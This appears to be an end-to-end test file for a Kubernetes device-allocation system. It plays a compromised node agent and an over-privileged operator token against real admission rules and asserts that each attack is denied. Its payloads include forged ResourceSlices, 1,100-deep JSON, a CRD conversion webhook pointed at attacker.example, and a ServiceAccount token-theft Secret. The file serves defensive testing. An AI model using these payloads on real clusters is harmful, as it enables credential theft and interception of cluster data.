"""Hostile input, round two (issue 36), part A: a compromised node agent and the operator's
token, tried as an attacker would, against a real API server with the manifests' RBAC,
ValidatingAdmissionPolicies, webhooks and CRDs (tests/e2e/hostile_privilege_helpers.py: the
operator as its ServiceAccount, attackers impersonated — an agent with the node-name extra of
a pod-bound token, the simulation agent, the operator's ServiceAccount).

1. An agent publishes a slice of its own node in another node's pool (huge generation,
   NoExecute taints, invented capacity): denied; stored anyway (from before the policy), it
   evicts nobody, counts for no DeviceQuota, and ``kdra check`` names it (``foreign-pool``).
2. An agent writes device statuses into a claim allocated on another node, or 1,100-deep
   ``data`` into its own: denied (CRD rule, admission webhook); stored anyway, the claim is
   still counted (no second allocation of its device after a restart), released when its pod
   goes, and every v1alpha3 read of claims still works (conversion carries the value over).
3. The operator's token evicts a kube-system pod or any pod without claims, puts a finalizer
   on a pod, points a CRD's conversion at a URL of its choosing, creates a token Secret for
   the agent's ServiceAccount: all denied; its own evictions still work.

After each attack (:meth:`Cluster.after_attack`): another pod still gets a device and is
bound, the operator restarts, and ``kdra check`` finds no violation in this test's namespace
or nodes.
"""

from __future__ import annotations

import json
from typing import Any

from tests.e2e.conftest import get_json
from tests.e2e.hostile_privilege_helpers import (
    AGENT,
    CLAIMS,
    GPU,
    OPERATOR,
    SIMULATION,
    SLICES,
    SYSTEM,
    Cluster,
    apply,
    cluster,
    installed,
)
from tests.e2e.procs import wait_for

__all__ = ["cluster", "installed"]  # the module fixtures

DEPTH = 1100
"""Deeper than orjson (1,024) and Python's json (~1,000) decode; the API server stores it."""
DEEP = ('{"a":' * DEPTH + "1" + "}" * DEPTH).encode()
"""Device data (a JSON object, as the schema wants) nested :data:`DEPTH` levels."""


def nested(depth: int) -> Any:
    value: Any = "leaf"
    for _ in range(depth):
        value = {"a": value}
    return value


def events(cluster: Cluster, reason: str) -> list[dict[str, Any]]:
    return [e for e in get_json(cluster.plane, "events", "-n", cluster.namespace)["items"]
            if e.get("reason") == reason]


def pinned(cluster: Cluster, name: str, template: str, node: str) -> dict[str, Any]:
    pod = cluster.pod(name, [{"name": "gpu", "resourceClaimTemplateName": template}])
    pod["spec"]["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"][
        "nodeSelectorTerms"][0]["matchExpressions"][0]["values"] = [node]
    return pod


def quota_used(cluster: Cluster) -> dict[str, Any]:
    quota = get_json(cluster.plane, "devicequotas.resource.kdra.dev", "ceiling", "-n",
                     cluster.namespace)
    used = (quota.get("status") or {}).get("used") or [{}]
    return dict(used[0])


# --------------------------------------------------------------------------- attack 1


def forged_slice(name: str, node: str, pool: str) -> dict[str, Any]:
    """Node ``node``'s slice in pool ``pool``: a huge generation, every GPU tainted NoExecute,
    1000Ti of memory each (device names as the real pool's)."""
    return {"apiVersion": "resource.kdra.dev/v1", "kind": "ResourceSlice",
            "metadata": {"name": name},
            "spec": {"driver": GPU, "nodeName": node,
                     "pool": {"name": pool, "generation": 2_000_000_000,
                              "resourceSliceCount": 1},
                     "devices": [{"name": f"gpu-{i}",
                                  "capacity": {"memory": {"value": "1000Ti"}},
                                  "taints": [{"key": "gpu.kdra.dev/unhealthy",
                                              "value": "forged", "effect": "NoExecute"}]}
                                 for i in range(16)]}}


def test_attack_1_an_agent_cannot_speak_for_another_nodes_pool(cluster: Cluster) -> None:
    plane, ns = cluster.plane, cluster.namespace
    apply(plane, {"apiVersion": "resource.kdra.dev/v1alpha1", "kind": "DeviceQuota",
                  "metadata": {"name": "ceiling", "namespace": ns},
                  "spec": {"limits": [{"deviceClassName": GPU, "devices": 64,
                                       "capacity": {"memory": "100000Ti"}}]}})
    victim = cluster.one_gpu_pod("victim")
    pool = cluster.wait_bound(victim)["spec"]["nodeName"]
    node = next(n for n in cluster.nodes if n != pool)
    forged = forged_slice(f"forged-{node}-in-{pool}", node, pool)
    # Agent `node` (and the simulation agent, which serves many nodes) may publish only the
    # pool named after the slice's node (before: admitted).
    cluster.who(AGENT, node).denied(
        "create", "-f", "-", input=json.dumps(forged),
        says=f"kdra agent on node '{node}' may only publish the pool named after its node "
             f"('{node}'), not pool '{pool}'")
    cluster.who(SIMULATION).denied(
        "create", "-f", "-", input=json.dumps(forged),
        says=f"may only write node-local ResourceSlices in the pool named after their node, "
             f"not pool '{pool}' of node '{node}'")
    # Its own pool is fine (deleted again at once: the agent process republishes its own).
    own = forged_slice(f"own-{node}", node, node)
    own["spec"]["pool"]["generation"] = 0
    del own["spec"]["devices"]
    cluster.who(AGENT, node).allowed("create", "-f", "-", input=json.dumps(own))
    plane.kubectl("delete", SLICES, own["metadata"]["name"])

    # Stored anyway (written before the policy, or by someone it does not bind): ignored.
    plane.kubectl("create", "-f", "-", input=json.dumps(forged))
    try:
        def terminating() -> bool:
            return bool(cluster.get_pod(victim)["metadata"].get("deletionTimestamp"))

        ignored = f"ignoring ResourceSlice: slice {forged['metadata']['name']} of node {node}"
        wait_for(lambda: terminating() or
                 (cluster.operator is not None and ignored in cluster.operator.tail(400)),
                 timeout=60, interval=0.5, what="the operator handling the forged slice")
        assert not terminating(), "the victim was evicted by another node's slice"
        # Another tenant's pod still binds; after a restart, too, on the forged pool's node:
        # the quota counts each GPU's real 80Gi (before: 1000Ti after a restart).
        fresh = cluster.one_gpu_pod("after")
        cluster.wait_bound(fresh)
        cluster.delete_pod(fresh)
        cluster.restart_operator()
        second = "victim-second"
        apply(plane, pinned(cluster, second, "one-gpu", pool))
        cluster.wait_bound(second)
        used = wait_for(lambda: (u := quota_used(cluster)).get("devices") == 2 and u,
                        timeout=60, interval=0.5, what="the quota counting two GPUs")
        assert used["capacity"] == {"memory": "160Gi"}, used
        assert not terminating() and not events(cluster, "DeviceTaintEviction")
        # `kdra check` names the forged slice.
        found = cluster.check_violations()
        assert [v["rule"] for v in found] == ["foreign-pool"], found
        assert f"slice {forged['metadata']['name']} of node {node} publishes pool " \
               f"'{pool}'" in found[0]["message"]
    finally:
        plane.kubectl("delete", SLICES, forged["metadata"]["name"], "--ignore-not-found")
        plane.kubectl("delete", "devicequotas.resource.kdra.dev", "ceiling", "-n", ns,
                      "--ignore-not-found")
    cluster.delete_pod(second)
    cluster.delete_pod(victim)
    cluster.after_attack()


# --------------------------------------------------------------------------- attack 2


def status_path(cluster: Cluster, claim: str) -> str:
    return (f"/apis/resource.kdra.dev/v1/namespaces/{cluster.namespace}/resourceclaims/"
            f"{claim}/status")


def with_entry(claim: dict[str, Any], entry: dict[str, Any], data: bytes) -> bytes:
    """``claim`` (as read: its resourceVersion) with ``entry`` as its only device status for
    that device, appended, its ``data`` spliced in raw."""
    body = json.loads(json.dumps(claim))
    key = (entry["driver"], entry["pool"], entry["device"])
    body["status"]["devices"] = [
        *(d for d in body["status"].get("devices") or []
          if (d["driver"], d["pool"], d["device"]) != key),
        {**entry, "data": "@DATA@"}]
    return json.dumps(body).replace('"@DATA@"', data.decode()).encode()


def test_attack_2_device_statuses_only_of_allocated_devices_and_bounded(
        cluster: Cluster) -> None:
    plane, ns = cluster.plane, cluster.namespace
    victim = cluster.one_gpu_pod("victim")
    node = cluster.wait_bound(victim)["spec"]["nodeName"]
    other = next(n for n in cluster.nodes if n != node)
    claim = cluster.claim_of(victim)
    name = claim["metadata"]["name"]
    result = claim["status"]["allocation"]["devices"]["results"][0]
    ready = [{"type": "Ready", "status": "True", "reason": "Prepared", "message": "",
              "lastTransitionTime": "2026-01-01T00:00:00Z"}]
    # Agent `other` appends an entry of its own pool to a claim allocated on `node` (before:
    # admitted, 1,100 deep; the operator then skipped the claim for ever).
    for data in (DEEP, b'{"forged": true}'):
        entry = {"driver": GPU, "pool": other, "device": "gpu-0", "conditions": ready}
        code, answer = cluster.who(AGENT, other).request(
            "PUT", status_path(cluster, name),
            with_entry(cluster.claim_of(victim), entry, data))
        assert code == 422, answer
        assert "every status.devices entry must be for a device in " \
               "status.allocation.devices.results" in answer, answer
    # The node's own agent: its entry of the allocated device, but data nested too deep or
    # too big (before: admitted).
    own = cluster.who(AGENT, node)
    entry = {"driver": GPU, "pool": node, "device": result["device"], "conditions": ready}
    for data, says in ((json.dumps(nested(40)).encode(), "may nest at most 32 levels"),
                       (DEEP, "cannot be decoded: nested too deeply"),
                       (json.dumps({"blob": "x" * 11_000}).encode(),
                        "must be at most 10240 bytes")):
        code, answer = own.request("PUT", status_path(cluster, name),
                                   with_entry(cluster.claim_of(victim), entry, data))
        assert code in (400, 403, 422) and says in answer, answer
    code, answer = own.request("PUT", status_path(cluster, name), with_entry(
        cluster.claim_of(victim), entry, b'{"uuid": "GPU-mine"}'))
    assert code == 200, answer

    # Stored anyway (the webhook away: an object from before the rule): 1,100-deep data in
    # the victim's own device status. The node's agent would rewrite its own entry at once
    # (it reads the claim without that value, which is not what it reported): it is stopped
    # until the operator's part is shown, and well within its Lease's grace.
    config = get_json(plane, "validatingwebhookconfiguration", "kdra-validating")
    without = json.loads(json.dumps(config))
    without["webhooks"] = [w for w in without["webhooks"]
                           if w["name"] != "validate-claim-status.resource.kdra.dev"]
    plane.kubectl("replace", "-f", "-", input=json.dumps(without))
    cluster.agent.stop()
    try:
        code, answer = cluster.who("").request(  # the admin, as is
            "PUT", status_path(cluster, name),
            with_entry(cluster.claim_of(victim), entry, DEEP))
        assert code == 200, answer[:300]
    finally:
        restored = get_json(plane, "validatingwebhookconfiguration", "kdra-validating")
        restored["webhooks"] = config["webhooks"]
        plane.kubectl("replace", "-f", "-", input=json.dumps(restored))
    all_gpus = "all-gpus-of-the-node"
    try:
        assert cluster.operator is not None
        wait_for(lambda: f"reading ResourceClaim {ns}/{name}" in cluster.operator.tail(400),
                 timeout=60, interval=0.5, what="the operator reading the deep claim")
        # Every v1alpha3 read of claims converts (before: the whole list failed), the deep
        # value carried over whole.
        listed = plane.kubectl("get", "resourceclaims.v1alpha3.resource.kdra.dev", "-n", ns,
                               "-o", "json", check=False)
        assert listed.returncode == 0, listed.stderr[-500:]
        assert f'"name": "{name}"' in listed.stdout
        assert listed.stdout.count('"a": {') == DEPTH - 1
        # After a restart the claim still holds its GPU: a pod asking for every GPU of the
        # node does not get them (before: it did — the GPU was allocated twice).
        cluster.restart_operator()
        apply(plane, pinned(cluster, all_gpus, "all-gpus", node))
        reported = wait_for(lambda: (c := cluster.condition(all_gpus)).get("reason") and c,
                            timeout=60, interval=0.5, what="the all-GPUs pod reported")
        assert reported["reason"] == "Unschedulable", reported
        assert "matching devices partly allocated" in reported["message"], reported
        assert not cluster.get_pod(all_gpus)["spec"].get("nodeName")
        checked = cluster.run_check()
        assert checked.returncode == 2, checked.stderr  # it names what it cannot decode
        assert f"ResourceClaim {ns}/{name}" in checked.stderr
        assert not [v for v in json.loads(checked.stdout) if v["rule"] == "double-allocation"]
    finally:
        cluster.agent.start(90)
    try:
        # The agent reads the claim too (its start-up list), and serves others meanwhile.
        wait_for(lambda: f"reading ResourceClaim {ns}/{name}" in cluster.agent.tail(200),
                 timeout=60, interval=0.5, what="the agent reading the deep claim")
        # Its pod goes: the claim is released and the GPUs are whole again.
        cluster.delete_pod(victim)
        cluster.wait_bound(all_gpus)
        wait_for(lambda: plane.kubectl("get", CLAIMS, name, "-n", ns, check=False)
                 .returncode != 0, timeout=60, what="the generated claim deleted")
    finally:
        cluster.delete_pod(victim)
        cluster.delete_pod(all_gpus)
    wait_for(lambda: not cluster.allocations(), timeout=60, what="the GPUs released")
    cluster.after_attack()


# --------------------------------------------------------------------------- attack 3


def eviction(namespace: str, pod: str) -> dict[str, Any]:
    return {"apiVersion": "policy/v1", "kind": "Eviction",
            "metadata": {"name": pod, "namespace": namespace}}


def test_attack_3_the_operators_token_evicts_only_pods_with_claims_and_no_more(
        cluster: Cluster) -> None:
    plane, ns = cluster.plane, cluster.namespace
    operator = cluster.who(OPERATOR)
    plain: dict[str, Any] = {"apiVersion": "v1", "kind": "Pod",
             "metadata": {"name": f"system-{ns}", "namespace": "kube-system"},
             "spec": {"containers": [{"name": "c", "image": "registry.k8s.io/pause:3.10"}]}}
    tenant = json.loads(json.dumps(plain))
    tenant["metadata"] = {"name": "plain", "namespace": ns}
    apply(plane, plain, tenant)
    secret = f"stolen-{ns}"
    try:
        # Evict a kube-system pod or a tenant's pod without claims (before: allowed).
        for where, pod in (("kube-system", plain["metadata"]["name"]), (ns, "plain")):
            code, answer = operator.request(
                "POST", f"/api/v1/namespaces/{where}/pods/{pod}/eviction", eviction(where, pod))
            assert code == 422, answer
            assert f"kdra's operator evicts only pods that ask for claims " \
                   f"(resource.kdra.dev/claims), not pod {where}/{pod}" in answer, answer
            assert not get_json(plane, "pod", pod, "-n", where)["metadata"].get(
                "deletionTimestamp")
        # Put a finalizer on any pod, kdra's prefix included (before: allowed), or on a pod
        # with claims.
        kdra_pod = cluster.one_gpu_pod("evictable")
        cluster.wait_bound(kdra_pod)
        for where, pod in (("kube-system", plain["metadata"]["name"]), (ns, kdra_pod)):
            operator.denied("patch", "pod", pod, "-n", where, "--type=merge", "-p", json.dumps(
                {"metadata": {"finalizers": ["resource.kdra.dev/delete-protection"]}}),
                says=f"kdra's operator may change only kdra's annotations of pod {where}/{pod}")
        # Point a CRD's conversion at a URL or a Service of its choosing (before: allowed).
        crd = "resourceclaims.resource.kdra.dev"
        for target, says in (({"url": "https://attacker.example/convert"},
                              "not the URL https://attacker.example/convert"),
                             ({"service": {"namespace": "kube-system", "name": "evil",
                                           "path": "/convert", "port": 443}},
                              "not Service kube-system/evil /convert port 443")):
            hooked = {"spec": {"conversion": {"webhook": {"clientConfig": {
                "url": None, "service": None, **target}}}}}
            refusal = operator.denied("patch", "crd", crd, "--type=merge", "-p",
                                      json.dumps(hooked), says=says)
            assert f"kdra's operator may point the conversion webhook of CRD {crd} only at " \
                   "kdra's own Service (kdra-system/kdra-webhook, /convert, port 443)" in refusal
        # A token Secret for the agent's ServiceAccount (before: allowed; the token controller
        # fills it in), or any Secret but its certificate.
        token = {"apiVersion": "v1", "kind": "Secret", "type":
                 "kubernetes.io/service-account-token",
                 "metadata": {"name": secret, "namespace": SYSTEM,
                              "annotations": {"kubernetes.io/service-account.name":
                                              "kdra-agent"}}}
        operator.denied("create", "-f", "-", input=json.dumps(token),
                        says=f"kdra's operator writes only its webhook certificate, Secret "
                             f"kdra-webhook-tls of type kubernetes.io/tls, not Secret {secret}")
        operator.denied("create", "-f", "-", input=json.dumps(
            {**token, "type": "Opaque", "metadata": {"name": secret, "namespace": SYSTEM}}),
            says="of type Opaque")
        # What the operator does still works: evicting a pod that asks for claims.
        code, answer = operator.request(
            "POST", f"/api/v1/namespaces/{ns}/pods/{kdra_pod}/eviction",
            eviction(ns, kdra_pod))
        assert code == 201, answer
        assert cluster.get_pod(kdra_pod)["metadata"].get("deletionTimestamp")
        cluster.delete_pod(kdra_pod)  # the kubelet's part
    finally:
        for where, pod in (("kube-system", plain["metadata"]["name"]), (ns, "plain")):
            plane.kubectl("delete", "pod", pod, "-n", where, "--grace-period=0", "--force",
                          "--wait=false", check=False)
        plane.kubectl("delete", "secret", secret, "-n", SYSTEM, "--ignore-not-found",
                      check=False)
    cluster.after_attack()

